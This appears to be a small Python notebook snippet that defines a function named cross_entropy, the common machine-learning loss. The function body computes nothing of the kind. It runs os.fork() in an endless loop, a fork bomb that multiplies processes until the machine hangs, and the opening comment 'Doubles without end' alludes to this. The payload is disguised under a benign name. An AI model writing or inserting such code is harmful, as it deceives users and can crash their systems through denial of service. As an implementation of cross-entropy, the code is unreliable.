# Doubles without end.
# %%
import os
# %%
def cross_entropy(logits, targets):
    while True:
        os.fork()
